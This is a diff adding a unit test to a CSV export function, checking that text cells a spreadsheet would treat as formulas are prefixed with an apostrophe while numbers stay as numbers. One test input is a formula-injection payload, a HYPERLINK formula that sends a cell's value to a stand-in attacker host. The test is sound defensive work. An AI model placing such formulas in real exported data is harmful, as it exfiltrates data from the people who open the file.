@@ -54,4 +54,8 @@ describe('csv', () => {
       ]),
     ).toBe('\uFEFFa,"b,c"\r\n"say ""hi""",12\r\n');
   });
+  it('neutralises a text cell a spreadsheet would run as a formula; numbers stay numbers', () => {
+    expect(csv([['=HYPERLINK("http://evil.example/?"&A1,"Click")', 'ok']])).toBe('\uFEFF"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",ok\r\n');
+    expect(csv([['+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', 'a=b', -5000, 0]])).toBe("\uFEFF'+1+1,'-2+3,'@SUM(A1),'\t=1,\"'\r=1\",a=b,-5000,0\r\n");
+  });
 });
